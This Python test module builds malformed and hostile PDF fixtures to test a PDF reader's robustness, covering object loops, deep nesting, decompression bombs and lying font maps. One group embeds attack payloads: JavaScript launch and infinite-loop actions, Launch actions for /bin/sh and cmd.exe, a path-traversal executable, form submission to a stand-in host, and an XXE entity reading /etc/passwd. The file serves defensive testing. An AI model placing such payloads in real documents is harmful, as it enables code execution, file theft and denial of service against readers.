"""Hostile PDFs."""

from __future__ import annotations

from hostile.case import GOOD, Case, bad, good, of, unproved
from pdfs import damaged
from pdfs.sheets import prose

from fuzz.raw_pdf import (
    CATALOG,
    CONTENT,
    FONT_AT,
    MORE,
    PAGE,
    PAGES,
    packed,
    page_of,
    pdf,
    stream,
    text,
    to_unicode,
)

_LINES = [prose(7, 12)[at : at + 80] for at in range(0, 960, 80)]
_FONT_WITH_MAP = (
    b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding "
    b"/ToUnicode %d 0 R >>" % MORE
)


def _plain(**changes: object) -> bytes:
    return pdf(text(GOOD), **changes)


def _mapped(shift: int, first: int = 0x41) -> bytes:
    """Text whose font says that each letter is another one."""
    pairs = {code: code for code in range(0x20, 0x7F)}
    if shift:
        for start in (0x41, 0x61):
            pairs |= {start + i: start + (i + shift) % 26 for i in range(26)}
    else:
        pairs |= {code: 0xE000 + code for code in range(first, 0x7F)}
    lines = [*_LINES, GOOD]
    return pdf(text(*lines), replaced={FONT_AT: _FONT_WITH_MAP}, more=[to_unicode(pairs)])


def _many_pages(size: int) -> bytes:
    kids = b" ".join(b"3 0 R" for _ in range(20_001 * size))
    return _plain(
        replaced={PAGES: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, 20_001 * size)}
    )


def _deep(opening: bytes, closing: bytes, times: int) -> bytes:
    return _plain(catalog=b"/X " + opening * times + closing * times)


def _image(width: int, size: int) -> bytes:
    more = [
        packed(
            bytes(100_000 * size),
            1,
            b"/Type /XObject /Subtype /Image /Width %d /Height %d "
            b"/ColorSpace /DeviceRGB /BitsPerComponent 8" % (width, width),
        )
    ]
    content = text(GOOD) + b"q 500 0 0 500 50 50 cm /I1 Do Q\n"
    return pdf(content, replaced={PAGE: page_of(b"/XObject << /I1 6 0 R >>")}, more=more)


def _form_loop() -> bytes:
    """A drawing that draws itself."""
    form = stream(
        b"/X1 Do\n",
        b"/Type /XObject /Subtype /Form /BBox [0 0 600 700] "
        b"/Resources << /XObject << /X1 6 0 R /X2 7 0 R >> >>",
    )
    return pdf(
        text(GOOD) + b"/X1 Do\n",
        more=[form, form],
        replaced={PAGE: page_of(b"/XObject << /X1 6 0 R >>")},
    )


def _form_tree(levels: int) -> bytes:
    """Drawings that draw ten of the next: ten to the power of their number in all."""
    more = [
        stream(
            b"/N Do\n" * 10,
            b"/Type /XObject /Subtype /Form /BBox [0 0 600 700] "
            b"/Resources << /XObject << /N %d 0 R >> >>" % (MORE + number + 1),
        )
        for number in range(levels)
    ]
    more.append(stream(b"0 0 1 1 re f\n", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1]"))
    return pdf(
        text(GOOD) + b"/X1 Do\n",
        more=more,
        replaced={PAGE: page_of(b"/XObject << /X1 6 0 R >>")},
    )


_SCRIPT = (
    b"/OpenAction << /S /JavaScript /JS (app.launchURL('http://example.invalid/');) >> "
    b"/AA << /WC << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >> >> "
    b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (while(1){}) >>] >> "
    b"/EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (../../x.exe) "
    b"/EF << /F 6 0 R >> >>] >> >>"
)
_ACTIONS = (
    b"/AA << /O << /S /SubmitForm /F << /FS /URL /F (http://example.invalid/) >> >> >> "
    b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] "
    b"/A << /S /GoToR /F (/etc/passwd) /D [0 /Fit] >> >>]"
)
_OUTLINES = (
    b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 9 >>",
    b"<< /Title (x) /Parent 6 0 R /Next 7 0 R /First 7 0 R /Last 7 0 R /Dest [3 0 R /Fit] >>",
)

CASES = (
    *of(
        "PDF: loops between objects",
        good("plain.pdf", "nothing: the page that the others are made from", lambda size: _plain()),
        good(
            "tree_loop.pdf",
            "a page tree that holds itself",
            lambda size: _plain(
                replaced={PAGES: b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"}
            ),
            "cannot be read",
            "partial",
        ),
        bad(
            "tree_only_loop.pdf",
            "a page tree that holds nothing but itself",
            lambda size: _plain(replaced={PAGES: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}),
            "",
        ),
        bad(
            "catalog_loop.pdf",
            "a catalog that is its own page tree",
            lambda size: _plain(replaced={CATALOG: b"<< /Type /Catalog /Pages 1 0 R >>"}),
            "",
        ),
        good(
            "parent_loop.pdf",
            "a page that is its own parent",
            lambda size: _plain(replaced={PAGE: page_of(b"").replace(b"/Parent 2", b"/Parent 3")}),
        ),
        good(
            "outlines.pdf",
            "outlines in a circle",
            lambda size: _plain(catalog=b"/Outlines 6 0 R", more=_OUTLINES),
        ),
        good("form_loop.pdf", "a drawing that draws itself", lambda size: _form_loop()),
        good(
            "form_tree.pdf", "drawings that draw ten others each", lambda size: _form_tree(2 + size)
        ),
        bad(
            "length_loop.pdf",
            "a stream whose length is itself",
            lambda size: _plain(replaced={CONTENT: b"<< /Length 4 0 R >>\nstream\nx\nendstream"}),
            "",
        ),
        good(
            "references.pdf",
            "references that lead to themselves",
            lambda size: _plain(catalog=b"/X 6 0 R", more=[b"6 0 R"]),
        ),
        good(
            "prev_loop.pdf",
            "a cross-reference table before itself",
            lambda size: _plain(trailer=b"/Prev 600"),
        ),
    ),
    *of(
        "PDF: nesting, boxes, counts of pages",
        good(
            "deep_arrays.pdf",
            "arrays in arrays in arrays",
            lambda size: _deep(b"[", b"]", 400 * size),
        ),
        unproved(
            "deep_dictionaries.pdf",
            "dictionaries in dictionaries",
            lambda size: _deep(b"<< /X ", b" >>", 400 * size),
        ),
        bad(
            "huge_box.pdf",
            "a page of a billion points",
            lambda size: _plain(box=b"0 0 1000000000 1000000000"),
            "cannot be read",
        ),
        unproved(
            "box_wrong.pdf", "a page without an area", lambda size: _plain(box=b"10 10 10 10")
        ),
        unproved(
            "box_words.pdf",
            "a page whose box is words",
            lambda size: _plain(box=b"/a (b) null nan"),
        ),
        Case(
            "count.pdf",
            "a page tree that says it has a million pages",
            lambda size: _plain(count=b"1000000"),
            "failed",
            "max_pages",
        ),
        bad("pages.pdf", "more pages than are read", _many_pages, "max_pages"),
        good(
            "count_negative.pdf",
            "a page tree that says it has less than no pages",
            lambda size: _plain(count=b"-5"),
        ),
    ),
    *of(
        "PDF: huge pictures and packed streams",
        good(
            "image.pdf",
            "a picture of ten thousand million points",
            lambda size: _image(100_000, size),
        ),
        good(
            "zeros.pdf",
            "a content stream of millions of zero bytes, packed",
            lambda size: pdf(packed(text(GOOD) + bytes(200_000 * size))),
        ),
        good(
            "twice_packed.pdf",
            "a stream packed twice",
            lambda size: pdf(packed(text(GOOD) + b" " * 4_000_000 * size, 2)),
        ),
        good(
            "filters.pdf",
            "a stream packed a hundred times over",
            lambda size: pdf(packed(text(GOOD), 100)),
        ),
        good(
            "states.pdf",
            "a drawing state that is saved and never given back",
            lambda size: pdf(b"q " * 10_000 * size + text(GOOD)),
        ),
    ),
    *of(
        "Things to fetch or run",
        good(
            "script.pdf",
            "JavaScript, programs to start, files inside, forms that send",
            lambda size: _plain(
                catalog=_SCRIPT, page=_ACTIONS, more=[stream(b"MZ program", b"/Type /EmbeddedFile")]
            ),
        ),
        good(
            "xfa.pdf",
            "an XML form with an entity that is a file",
            lambda size: _plain(
                catalog=b"/AcroForm << /XFA 6 0 R /Fields [] >>",
                more=[
                    stream(
                        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
                    )
                ],
            ),
        ),
    ),
    *of(
        "Cut off, locked, damaged",
        bad(
            "password.pdf",
            "encrypted with a password",
            lambda size: damaged.with_password(),
            "encrypted with a password",
        ),
        bad("truncated.pdf", "cut off in the middle", lambda size: damaged.truncated(), "fetch"),
        bad("header.pdf", "a first line and nothing else", lambda size: b"%PDF-1.7\n", "fetch"),
        bad(
            "nuls.pdf",
            "a first line and zero bytes",
            lambda size: b"%PDF-1.7\n" + bytes(200_000 * size),
            "fetch",
        ),
        good(
            "junk.pdf",
            "something else before the first line",
            lambda size: b"GET / HTTP\r\n\r\n" + _plain(),
        ),
        unproved(
            "two.pdf",
            "two files one after the other",
            lambda size: pdf(text("In 1999 the FBI paid $9 million.")) + _plain(),
        ),
        bad(
            "unpacked_index.pdf",
            "an index that says it has two thousand million entries",
            lambda size: (
                b"%PDF-1.7\n1 0 obj\n<< /Type /XRef /Size 2147483647 /W [4 8 4] "
                b"/Index [0 2147483647] /Root 2 0 R /Length 4 >>\nstream\nabcd\n"
                b"endstream\nendobj\nstartxref\n9\n%%EOF\n"
            ),
            "",
        ),
    ),
    *of(
        "PDF: fonts that lie about their letters",
        Case(
            "shifted.pdf",
            "a font that says each letter is the next one",
            lambda size: _mapped(1),
            "partial",
            "make no words",
        ),
        Case(
            "private.pdf",
            "a font that says its letters are private signs",
            lambda size: _mapped(0),
            "failed",
            "no text",
        ),
        Case(
            "signs.pdf",
            "a font that says its small letters are private signs",
            lambda size: _mapped(0, 0x61),
            "partial",
            "make no words",
        ),
    ),
)
